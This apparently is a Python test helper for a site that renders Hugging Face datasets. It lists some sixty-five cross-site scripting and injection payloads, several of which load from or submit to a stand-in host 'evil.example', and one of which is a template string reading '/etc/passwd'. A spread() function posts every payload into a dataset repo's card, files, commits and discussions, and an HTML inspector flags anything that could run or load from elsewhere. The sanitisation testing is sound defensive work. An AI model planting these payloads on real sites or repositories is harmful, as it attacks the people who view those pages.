"""Strings that try to become script on a page, and a repo that holds them wherever it can."""

import io
import json
from collections.abc import Iterator
from html.parser import HTMLParser

from huggingface_hub import CommitOperationAdd, HfApi

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</code></pre><script>window.pwned=1</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src='data:,window.pwned=1'></script>",
    "<<script>window.pwned=1//<</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src='x' onerror='window.pwned=1' alt='",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    '<IMG """><SCRIPT>window.pwned=1</SCRIPT>">',
    "<img/src/onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<math href='javascript:window.pwned=1'>click</math>",
    "<body onload=window.pwned=1>",
    "<iframe src='javascript:window.pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='javascript:window.pwned=1'></object>",
    "<embed src='javascript:window.pwned=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><button>Sign in</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>x</p>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<!--><script>window.pwned=1</script>-->",
    "<!-- --!><img src=x onerror=window.pwned=1> -->",
    "<?xml-stylesheet href='javascript:window.pwned=1'?>",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<x onclick=window.pwned=1 tabindex=1 id=x autofocus onfocus=window.pwned=1>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x](java\tscript:window.pwned=1)",
    "[x](  javascript:window.pwned=1)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](vbscript:window.pwned=1)",
    "[x](//evil.example/a 'onmouseover=window.pwned=1')",
    "[x]: javascript:window.pwned=1\n[x]",
    "<javascript:window.pwned=1>",
    "![x](javascript:window.pwned=1)",
    '![x](x" onerror=window.pwned=1 y=")',
    '![x" onerror=window.pwned=1 y="](x.png)',
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "`</code><script>window.pwned=1</script>`",
    '```"><script>window.pwned=1</script>\nx\n```',
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ config.items() }}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u202egpj.exe<script>window.pwned=1</script>",
]
_FORBIDDEN = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "style",
    "video",
    "audio",
    "template",
    "noscript",
    "marquee",
    "frame",
    "frameset",
    "applet",
    "source",
    "animate",
}


def spread(api: HfApi, repo_id: str) -> None:
    """Put every payload in the card, file names, commit messages, rows, titles and comments."""
    options = {"repo_id": repo_id, "repo_type": "dataset"}
    meta = {"license": "mit", "tags": PAYLOADS, "task_categories": PAYLOADS[8:10]}
    meta["model-index"] = [  # type: ignore[assignment]
        {"results": [{"dataset": {"name": text}, "metrics": [{"type": text, "value": text}]}]}
        for text in PAYLOADS[8:12]
    ]
    card = f"---\n{json.dumps(meta)}\n---\n" + "\n\n".join(PAYLOADS)
    rows = [{"text": text, text: text} for text in PAYLOADS]
    files = {
        "README.md": card,
        "train.jsonl": "\n".join(json.dumps(row) for row in rows),
        "evil.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>",
        "evil.html": "<script>window.pwned=1</script>",
        "evil.png": "<script>window.pwned=1</script>",
        "all.txt": "\n".join(PAYLOADS),
    }
    files |= {f"{name}.txt": "x" for name in usable_names()}
    operations = [
        CommitOperationAdd(path, io.BytesIO(text.encode())) for path, text in files.items()
    ]
    api.create_commit(**options, operations=operations, commit_message="Spread")  # type: ignore[arg-type]
    for number, text in enumerate(PAYLOADS):
        add = CommitOperationAdd("counter.txt", io.BytesIO(f"{text}\n{number}".encode()))
        title = " ".join(text.split())
        api.create_commit(
            **options,  # type: ignore[arg-type]
            operations=[add],
            commit_message=title,
            commit_description=text,
        )
        num = api.create_discussion(**options, title=title, description=text).num  # type: ignore[arg-type]
        api.comment_discussion(**options, discussion_num=num, comment=text)  # type: ignore[arg-type]
    pull = api.create_pull_request(**options, title=PAYLOADS[8]).num  # type: ignore[arg-type]
    changed = [CommitOperationAdd("all.txt", io.BytesIO("\n".join(PAYLOADS[::-1]).encode()))]
    api.create_commit(
        **options,  # type: ignore[arg-type]
        operations=changed,
        commit_message=PAYLOADS[0],
        revision=f"refs/pr/{pull}",
    )


def usable_names() -> Iterator[str]:
    """The payloads as file names: a slash would be a folder."""
    for text in PAYLOADS:
        name = "".join(char for char in text if char.isprintable() or char == "\u202e")
        yield name.replace("/", "\u2215").replace("\\", "")[:120]


class Inspector(HTMLParser):
    """What in a page could run, load from elsewhere or lead a form away."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            text = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "xlink:href", "formaction"):
                self.faults.append(f"<{tag} {name}={value}>")
            if name in ("href", "src", "action") and not _leads_home(tag, text):
                self.faults.append(f"<{tag} {name}={value}>")
            if name == "http-equiv":
                self.faults.append(f"<{tag} {name}>")
            if tag == "a" and name == "href" and text.startswith("/"):
                self.links.append(value or "")


def _leads_home(tag: str, text: str) -> bool:
    if tag == "a":  # may lead anywhere, if only by http
        outside = text.startswith(("http://", "https://", "mailto:"))
        return outside or not text.split("/")[0].split("?")[0].count(":")
    if tag == "link" or (tag == "img" and text.startswith("data:image/png;base64,")):
        return text.startswith(("/assets/", "data:image/"))
    return text.startswith("/") and not text.startswith("//")


def faults_of(html: str) -> tuple[list[str], list[str]]:
    """(what is wrong with a page, the links of this site on it)."""
    inspector = Inspector()
    inspector.feed(html)
    return inspector.faults, inspector.links
